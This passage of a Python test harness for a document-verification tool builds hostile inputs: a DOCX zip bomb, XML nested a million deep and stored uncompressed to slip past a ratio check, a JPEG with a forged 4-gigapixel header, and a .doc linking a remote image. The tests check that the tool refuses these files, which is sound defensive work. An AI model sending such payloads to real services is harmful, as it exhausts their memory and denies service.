       case_export_onto_db_symlink, case_corrupt_db, case_newer_schema, case_draft_onto_input,
       case_draft_pdf_onto_input, case_output_is_directory, case_outdir_is_file, case_per_unit_folded_names,
       case_per_unit_control_char, case_draft_control_chars,
       case_csv_injection, case_export_xlsx_injection, case_import_folder_bad_file,
       case_wrong_password, case_umask, case_broken_doc]


def doc_with_remote_image(path: Path, url: str) -> Path:
    """A Word 97 .doc holding a picture linked to ``url`` (an INCLUDEPICTURE
    field), made by LibreOffice from HTML with no network reachable."""
    import shutil
    import tempfile

    with tempfile.TemporaryDirectory(prefix="hostile-doc-") as work:
        html = Path(work) / "anh.html"
        html.write_text(f'<html><body><p>BÁO CÁO kết quả đánh giá chất lượng phục vụ người dân</p>'
                        f'<p><img src="{url}" width="100" height="100"></p></body></html>', encoding="utf-8")
        sys.path.insert(0, str(ROOT))
        from parsers.legacy_office import convert

        made = convert(html, "doc:MS Word 97", Path(work))
        shutil.copyfile(made, path)
    return path


# --- zip bombs, deep nesting, huge images ------------------------------------------------


_DOCX_CT = ('<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
            'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
            'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/'
            'document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.'
            'main+xml"/></Types>')
_DOCX_RELS = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
              'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
              'officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>')
_W = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def _docx_parts(path: Path, document: Callable[[object], None], stored: bool = False) -> Path:
    """A DOCX whose document part ``document(fh)`` writes (``stored``: not
    compressed, so the ZIP's ratio check lets it through to the XML)."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", _DOCX_CT)
        zf.writestr("_rels/.rels", _DOCX_RELS)
        info = zipfile.ZipInfo("word/document.xml")
        info.compress_type = zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED
        with zf.open(info, "w", force_zip64=True) as fh:
            document(fh)
    return path


def case_docx_zip_bomb(tmp: Path, scale: str) -> Case:
    """A DOCX whose document part inflates to 4 GB of spaces (64 MB in the
    tests): refused from the ZIP directory before any XML is parsed."""
    size = 4096 * MB if scale == "bench" else 64 * MB

    def document(fh):
        fh.write(b'<?xml version="1.0" encoding="UTF-8"?><w:document ' + _W + b"><w:body><w:p><w:r><w:t>")
        block = b" " * MB
        for _ in range(size // MB):
            fh.write(block)
        fh.write(b"</w:t></w:r></w:p></w:body></w:document>")

    path = _docx_parts(tmp / "bom-nen.docx", document)
    return Case("docx_zip_bomb", ["verify", str(path)], {2}, "bom nén", mem_mb=300, seconds=30, protected=[path])


def case_docx_deep_nesting(tmp: Path, scale: str) -> Case:
    """Content controls nested a million deep (10.000 in the tests)."""
    depth = 1_000_000 if scale == "bench" else 10_000

    def document(fh):
        fh.write(b'<?xml version="1.0" encoding="UTF-8"?><w:document ' + _W + b"><w:body>")
        fh.write(b"<w:sdt><w:sdtContent>" * depth)
        fh.write(b"<w:p><w:r><w:t>B\xc3\x81O C\xc3\x81O</w:t></w:r></w:p>")
        fh.write(b"</w:sdtContent></w:sdt>" * depth)
        fh.write(b"</w:body></w:document>")

    path = _docx_parts(tmp / "long-sau.docx", document, stored=True)
    return Case("docx_deep_nesting", ["verify", str(path)], {2}, "DOCX", mem_mb=400, seconds=30, protected=[path])


def case_xlsx_deep_nesting(tmp: Path, scale: str) -> Case:
    """A sheet whose one cell sits a million elements deep (10.000 in the tests)."""
    depth = 1_000_000 if scale == "bench" else 10_000
    path = write_xlsx(tmp / "long-sau.xlsx", [["STT", "Tên đơn vị"]])
    with zipfile.ZipFile(path) as zf:
        parts = {n: zf.read(n) for n in zf.namelist()}
    parts["xl/worksheets/sheet1.xml"] = (
        b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
        b'2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is>' + b"<r>" * depth + b"<t>x</t>"
        + b"</r>" * depth + b"</is></c></row></sheetData></worksheet>")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, body in parts.items():  # the sheet stored, not compressed: past the ratio check to the XML
            zf.writestr(name, body, compress_type=zipfile.ZIP_STORED if name.endswith("sheet1.xml") else None)
    return Case("xlsx_deep_nesting", ["verify", str(path)], {2}, "XLSX", mem_mb=400, seconds=30, protected=[path])


def _huge_jpeg(width: int, height: int) -> bytes:
    """A real 16×16 JPEG (Pillow) whose frame header declares ``width`` ×
    ``height`` pixels: a decoder that trusts it allocates the lot."""
    import io

    from PIL import Image

    buf = io.BytesIO()
    Image.new("L", (16, 16), 255).save(buf, format="JPEG", quality=50)
    data = bytearray(buf.getvalue())
    at = data.find(b"\xff\xc0")
    data[at + 5:at + 9] = height.to_bytes(2, "big") + width.to_bytes(2, "big")
    return bytes(data)


def case_pdf_huge_image(tmp: Path, scale: str) -> Case:
    """A one-page 'scan' whose JPEG declares 65.000 × 65.000 pixels (4,2
    gigapixels) in a 1 KB file."""
    jpeg = _huge_jpeg(65000, 65000)
    image = stream(b"/Type /XObject /Subtype /Image /Width 65000 /Height 65000 /ColorSpace /DeviceGray "
                   b"/BitsPerComponent 8 /Filter /DCTDecode", jpeg)
    content = stream(b"", b"q 595 0 0 842 0 0 cm /Im0 Do Q")
    path = tmp / "anh-khong-lo.pdf"
    path.write_bytes(page_pdf(content, resources=b"<< /XObject << /Im0 5 0 R >> >>", more=[image]))
    return Case("pdf_huge_image", ["verify", str(path)], {2}, "pdf_stream_bytes", mem_mb=1024, seconds=120,
                protected=[path])


def case_batch_report_onto_input(tmp: Path, scale: str) -> Case:
    """``verify a.txt b.xlsx --jobs 2 --report b.xlsx``: the batch's workbook would replace an input."""
    text = tmp / "bao-cao.txt"
    text.write_bytes(SEED.read_bytes())
    sheet = write_xlsx(tmp / "bang-diem.xlsx", list(_score_rows(5)))
    return Case("batch_report_onto_input", ["verify", str(text), str(sheet), "--jobs", "2", "--quiet",
                                            "--report", str(sheet)], {2}, "trùng với tệp đầu vào", mem_mb=600,
                seconds=60, protected=[text, sheet])


ALL += [case_batch_report_onto_input, case_docx_zip_bomb,
        case_docx_deep_nesting, case_xlsx_deep_nesting, case_pdf_huge_image]
